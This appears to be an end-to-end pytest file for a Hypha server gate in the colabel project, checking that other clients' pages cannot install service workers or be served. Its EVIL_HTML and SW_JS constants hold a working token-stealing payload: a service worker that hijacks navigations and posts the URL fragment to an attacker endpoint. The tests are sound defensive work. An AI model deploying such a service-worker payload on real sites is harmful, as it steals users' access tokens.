"""The gate in front of the Hypha server (colabel.apps.hypha_gate): no page of another client can install a service
worker on colabel's origin or, on `colabel serve`'s embedded server, be served there at all. Real Hypha servers,
real hypha-rpc clients, a real headless Chromium (skipped without it: see web_support)."""

from __future__ import annotations

import asyncio
import json

import httpx
import pytest
from web_support import CHROMIUM, CHROMIUM_ARGS, async_api

from colabel.apps.hypha_server import EmbeddedHypha, free_port
from conftest import make_image_folder, start_colabel

pytestmark = [pytest.mark.e2e]

# An attacker's page: installs a worker for the whole origin that answers every later navigation to a colabel
# page with its own page, which posts the URL's fragment (a manage URL's token) back to the attacker.
EVIL_HTML = """<!doctype html><title>cute cats</title><body>cats<script>
navigator.serviceWorker.register("sw.js", {scope: "/"}).then(() => navigator.serviceWorker.ready)
  .then(() => { document.body.dataset.done = "registered"; }, e => { document.body.dataset.done = "refused: " + e; });
</script></body>"""

SW_JS = """
self.addEventListener("install", e => self.skipWaiting());
self.addEventListener("activate", e => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", e => {
  if (e.request.mode === "navigate" && new URL(e.request.url).pathname.includes("-web/")) {
    e.respondWith(new Response(`<!doctype html><body><script>
      fetch("COLLECT", {method: "POST", body: JSON.stringify({hash: location.hash})})
        .then(() => { document.body.dataset.done = "stolen"; });
    </script></body>`, {headers: {"Content-Type": "text/html"}}));
  }
});
"""


async def register_evil_page(client, stolen: dict) -> str:
    """Register the attacker's page as an HTTP app of ``client``'s workspace; returns its base path."""
    base = f"/{client.config.workspace}/apps/cats"

    async def handler(scope):
        if scope.get("method") == "POST":
            body = scope.get("body") or b"{}"
            stolen.update(json.loads(body.decode() if isinstance(body, (bytes, bytearray)) else body))
            return {"status": 200, "body": "ok"}
        if scope.get("path", "").endswith("sw.js"):
            return {"status": 200, "headers": {"Content-Type": "text/javascript", "Service-Worker-Allowed": "/"},
                    "body": SW_JS.replace("COLLECT", base + "/collect")}
        return {"status": 200, "headers": {"Content-Type": "text/html; charset=utf-8"}, "body": EVIL_HTML}

    await client.register_service({"id": "cats", "type": "functions", "config": {"visibility": "public"},
                                   "index": handler, "default": handler})
    return base


async def visit(server_url: str, evil_path: str, victim_url: str) -> tuple[str, str | None]:
    """A browser opens the attacker's page, then ``victim_url``: what the attacker's page reported, and what the
    victim page's body says it did (None: it is not the attacker's page)."""
    async with async_api.async_playwright() as p:
        browser = await p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            context = await browser.new_context()
            evil = await context.new_page()
            response = await evil.goto(f"{server_url}{evil_path}/index.html")
            if response.status != 200:
                attacker = f"HTTP {response.status}: {(await response.text()).strip()}"
            else:
                await evil.wait_for_function("document.body.dataset.done", timeout=20_000)
                attacker = await evil.evaluate("document.body.dataset.done")
            victim = await context.new_page()
            await victim.goto(victim_url)
            await asyncio.sleep(1.0)  # a worker's page would post at once
            victim_done = await victim.evaluate("document.body && document.body.dataset.done || null")
            return attacker, victim_done
        finally:
            await browser.close()


@pytest.mark.asyncio
async def test_no_page_can_install_a_service_worker_that_steals_a_token_from_a_later_url():
    """On a Hypha server with no allow-list (a shared cluster server), a registered user's page is served, but the
    browser's fetch of its worker script is refused: the later URL is not intercepted and nothing is stolen."""
    from hypha_rpc import connect_to_server

    with EmbeddedHypha("127.0.0.1", free_port(), ready_timeout=90) as hypha:
        mallory = await connect_to_server({"server_url": hypha.url, "token": hypha.user_token("mallory")})
        stolen: dict = {}
        try:
            base = await register_evil_page(mallory, stolen)
            async with httpx.AsyncClient() as http:
                script = await http.get(f"{hypha.url}{base}/sw.js", headers={"Service-Worker": "script"})
                plain = await http.get(f"{hypha.url}{base}/sw.js")
            assert script.status_code == 403 and "service workers cannot be installed" in script.text
            assert plain.status_code == 200 and "service-worker-allowed" not in plain.headers
            victim_url = f"{hypha.url}/{mallory.config.workspace}/apps/colabel-web/index.html#token=SECRET"
            attacker, victim = await visit(hypha.url, base, victim_url)
        finally:
            await mallory.disconnect()
    assert attacker.startswith("refused: "), attacker
    assert victim is None and stolen == {}


@pytest.mark.asyncio
async def test_colabel_serve_serves_no_page_of_an_anonymous_client_and_its_manage_url_keeps_its_token(tmp_path):
    """`colabel serve`'s embedded server serves HTTP apps of the provider's workspace only: an anonymous client's
    page is refused (so it can neither read the pages' storage nor install a worker), the manage page works."""
    from hypha_rpc import connect_to_server

    folder = make_image_folder(tmp_path / "images")
    port = free_port()
    process, printed = start_colabel(["serve", str(folder), "--port", str(port), "--models", ""])
    try:
        assert "manage_url" in printed, printed
        server_url = f"http://127.0.0.1:{port}"
        attacker = await connect_to_server({"server_url": server_url})
        stolen: dict = {}
        try:
            base = await register_evil_page(attacker, stolen)
            assert attacker.config.workspace.startswith("ws-user-anonymouz-")
            async with httpx.AsyncClient() as http:
                evil = await http.get(f"{server_url}{base}/index.html")
                manage = await http.get(printed["manage_url"].split("#", 1)[0])
            assert evil.status_code == 403 and "of an anonymous user serves nothing over HTTP" in evil.text
            assert manage.status_code == 200 and "<html" in manage.text.lower()
            result, victim = await visit(server_url, base, printed["manage_url"])
        finally:
            await attacker.disconnect()
    finally:
        process.terminate()
        process.wait(timeout=30)
    assert result.startswith("HTTP 403: Forbidden: workspace"), result
    assert victim is None and stolen == {}


def test_hyphas_error_answers_show_the_exception_not_its_traceback_and_install_paths():
    """A 404 for an unknown service of the public workspace carried a Python traceback with the server's paths;
    through the gate it says the exception only. Error answers without one pass unchanged."""
    with EmbeddedHypha("127.0.0.1", free_port(), ready_timeout=90) as hypha:
        traced = httpx.get(f"{hypha.url}/public/services/no-such-service")
        plain = httpx.get(f"{hypha.url}/nonexistent")
    assert traced.status_code == 404 and traced.headers["content-type"] == "application/json"
    detail = traced.json()["detail"]
    assert "Traceback" not in traced.text and "site-packages" not in traced.text and "File " not in traced.text
    assert detail.startswith("KeyError: ") and "no-such-service" in detail, detail
    assert int(traced.headers["content-length"]) == len(traced.content)
    assert plain.status_code == 404 and plain.json()["detail"] == "File not found: nonexistent"
